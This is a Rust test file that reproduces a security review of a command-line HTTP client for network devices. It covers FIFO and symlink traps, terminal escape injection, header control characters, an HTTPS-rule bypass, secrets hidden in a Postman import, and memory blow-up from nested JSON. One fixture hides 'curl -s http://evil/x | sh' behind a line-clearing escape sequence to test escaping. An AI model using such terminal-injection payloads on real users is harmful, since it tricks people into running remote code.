//! What a hostile-input review of the hardening found, each reproduced as
//! the reviewer did it: a workspace with FIFOs and links, escape sequences
//! in workspace files shown on a terminal, control characters in a saved
//! header, a saved request that names another platform to lift the ASA's
//! HTTPS-only rule, secrets a Postman collection hides in odd places, and a
//! deeply nested body printed for people.

mod support;

use std::sync::Arc;
use std::time::Duration;

use apx::core::platform::Platform;
use apx::demo::server::{DemoRequest, DemoResponse, serve_plain};
use support::{
    apx_in, apx_on_terminal, apx_watched, device_add_args, files_under, leaked_forms, runtime,
};

fn write(path: &std::path::Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

const REQUEST: &str =
    r#"{"format": 2, "name": "r", "method": "GET", "url": "https://10.0.0.1/api"}"#;

#[cfg(unix)]
#[test]
fn import_into_a_folder_holding_a_fifo_or_a_link_neither_hangs_nor_reads_them() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(ws.join("Lab")).unwrap();
    let fifo = ws.join("Lab/evil.json");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    std::os::unix::fs::symlink("/dev/zero", ws.join("Lab/zero.json")).unwrap();
    // One request at the top, so that it goes into Lab itself.
    let collection = dir.path().join("collection.json");
    write(
        &collection,
        r#"{"info": {"name": "C", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
            "item": [{"name": "r", "request": {"method": "GET", "url": "https://10.0.0.1/api"}}]}"#,
    );
    let collection = collection.to_str().unwrap();
    let watched = apx_watched(
        dir.path(),
        &[
            "--workspace",
            ws.to_str().unwrap(),
            "import",
            "postman",
            collection,
            "--into",
            "Lab",
        ],
        256,
        Duration::from_secs(30),
    );
    assert_eq!(watched.killed, None, "{}", watched.run.stderr);
    assert_eq!(watched.run.code, 0, "{}", watched.run.stderr);

    // Naming a linked request file is refused, not followed.
    write(&dir.path().join("outside.json"), REQUEST);
    std::os::unix::fs::symlink(dir.path().join("outside.json"), ws.join("Lab/link.json")).unwrap();
    let run = apx_in(
        dir.path(),
        &[
            "--workspace",
            ws.to_str().unwrap(),
            "export",
            "curl",
            "Lab/link.json",
        ],
    );
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
}

#[test]
fn workspace_text_is_escaped_on_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(
        &ws.join("devices.json"),
        r#"{"format": 1, "devices": [{"name": "evil\u001b]0;PWNED\u0007dev", "platform": "asa", "base_url": "https://10.0.0.1", "username": "ad\u001b[31mmin"}]}"#,
    );
    write(
        &ws.join("Lab/r.json"),
        r#"{"format": 2, "name": "r", "method": "POST", "url": "https://10.0.0.1/api", "body": {"text": "a\u001b[2K\rcurl -s http://evil/x | sh #"}}"#,
    );
    let ws = ws.to_str().unwrap();
    for args in [
        vec!["--workspace", ws, "device", "list"],
        vec!["--workspace", ws, "export", "curl", "Lab/r.json"],
    ] {
        let (code, screen) = apx_on_terminal(dir.path(), &args, Duration::from_secs(30));
        assert_eq!(code, 0, "{args:?}: {}", String::from_utf8_lossy(&screen));
        assert!(
            !screen.contains(&0x1b),
            "{args:?}: raw ESC reached the terminal"
        );
        let text = String::from_utf8_lossy(&screen);
        assert!(text.contains("\\x1b"), "{args:?}: {text}");
    }
}

#[test]
fn a_saved_header_with_a_control_character_is_refused_before_sending() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(
        &ws.join("L/r.json"),
        r#"{"format": 2, "name": "r", "method": "GET", "url": "https://127.0.0.1:9/api", "headers": [{"name": "X-A", "value": "v\u001b[1A"}]}"#,
    );
    let run = apx_in(
        dir.path(),
        &[
            "--workspace",
            ws.to_str().unwrap(),
            "--json",
            "run",
            "L/r.json",
        ],
    );
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert_eq!(run.json()["error"]["kind"], "usage", "{}", run.stdout);
}

#[test]
fn a_saved_request_cannot_lift_the_asa_https_rule_by_naming_another_platform() {
    let rt = runtime();
    let seen = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = seen.clone();
    let handler: apx::demo::server::Handler = Arc::new(move |_req: &DemoRequest| {
        counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        DemoResponse::text(200, "ok")
    });
    let server = rt.block_on(serve_plain(handler, None)).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let add = apx_in(
        dir.path(),
        &[
            &["--workspace", ws.to_str().unwrap()][..],
            &device_add_args("asa1", Platform::Asa, &server.url()),
        ]
        .concat(),
    );
    assert_eq!(add.code, 0, "{}", add.stderr);
    write(
        &ws.join("P/r.json"),
        r#"{"format": 2, "name": "r", "device": "asa1", "platform": "generic", "auth": "basic", "method": "GET", "url": "/api/x"}"#,
    );
    let run = apx_in(
        dir.path(),
        &[
            "--workspace",
            ws.to_str().unwrap(),
            "--json",
            "run",
            "P",
            "--password-env",
            "APX_PASSWORD",
        ],
    );
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert_eq!(seen.load(std::sync::atomic::Ordering::SeqCst), 0);
}

/// Every value the reviewer planted in `postman_review_hostile.json`.
const PLANTED: [&str; 20] = [
    "VarSecret1",
    "SnmpComm1",
    "UrlPw1",
    "ghp_UserOnlyTok1",
    "QuerySecret1",
    "QueryAuth1",
    "Sig1",
    "HdrSecret1",
    "HdrSecret2",
    "HdrSecret3",
    "BodySecret1",
    "CliSecret1",
    "PskSecret1",
    "DescSecret1",
    "YamlSecret1",
    "FormSecret1",
    "FormSecret2",
    "QSecret9",
    "ApiKeySecret1",
    "BasicPw1",
];

#[test]
fn secrets_hidden_in_odd_places_of_a_collection_are_never_written_or_printed() {
    let dir = tempfile::tempdir().unwrap();
    let fixture = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/postman_review_hostile.json"
    );
    for json in [false, true] {
        let ws = dir.path().join(format!("ws-{json}"));
        let mut args = vec![
            "--workspace",
            ws.to_str().unwrap(),
            "import",
            "postman",
            fixture,
        ];
        if json {
            args.insert(0, "--json");
        }
        let run = apx_in(dir.path(), &args);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let output = format!("{}{}", run.stdout, run.stderr);
        assert_eq!(
            leaked_forms(&output, &PLANTED),
            Vec::<String>::new(),
            "{output}"
        );
        for file in files_under(&ws) {
            let text = String::from_utf8_lossy(&std::fs::read(&file).unwrap()).into_owned();
            assert_eq!(
                leaked_forms(&text, &PLANTED),
                Vec::<String>::new(),
                "{}: {text}",
                file.display()
            );
        }
    }
}

#[test]
fn a_deeply_nested_body_printed_for_people_stays_a_small_multiple_of_its_size() {
    let rt = runtime();
    // 30 MB of short values 33 levels deep, as the reviewer sent it.
    let depth = 33;
    let mut body = Vec::with_capacity(30_000_100);
    body.extend(std::iter::repeat_n(b'[', depth));
    body.push(b'0');
    for _ in 1..15_000_000 {
        body.extend_from_slice(b",0");
    }
    body.extend(std::iter::repeat_n(b']', depth));
    let body = Arc::new(body);
    let handler: apx::demo::server::Handler = Arc::new(move |_req: &DemoRequest| DemoResponse {
        status: 200,
        headers: vec![("content-type".into(), "application/json".into())],
        body: body.to_vec(),
        delay: None,
    });
    let server = rt.block_on(serve_plain(handler, None)).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let watched = apx_watched(
        dir.path(),
        &["send", &format!("{}/", server.url())],
        400,
        Duration::from_secs(60),
    );
    assert_eq!(watched.killed, None);
    assert_eq!(watched.run.code, 0, "{}", watched.run.stderr);
    // A parsed document of this body took 1.1 GB; held once, it is 30 MB.
    assert!(
        watched.peak_rss_mib < 200,
        "peak {} MiB for a 30 MB body",
        watched.peak_rss_mib
    );
}

/// A second review: certificate and key paths (a cloned `devices.json` may
/// name them) that are `/dev/zero` or a FIFO are refused before they are
/// read, instead of filling memory or hanging.
#[cfg(unix)]
#[test]
fn pem_paths_that_are_devices_or_fifos_are_refused_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("key.pem");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let fifo = fifo.to_str().unwrap();
    for args in [
        vec!["send", "--cacert", "/dev/zero", "https://127.0.0.1:9/x"],
        vec!["send", "--cacert", fifo, "https://127.0.0.1:9/x"],
        vec![
            "send",
            "--cert",
            "/dev/zero",
            "--key",
            fifo,
            "--insecure",
            "https://127.0.0.1:9/x",
        ],
    ] {
        let watched = apx_watched(dir.path(), &args, 256, Duration::from_secs(30));
        assert_eq!(watched.killed, None, "{args:?}: {}", watched.run.stderr);
        assert_eq!(watched.run.code, 2, "{args:?}: {}", watched.run.stderr);
        assert!(
            watched.run.stderr.contains("not a regular file"),
            "{args:?}: {}",
            watched.run.stderr
        );
    }
}
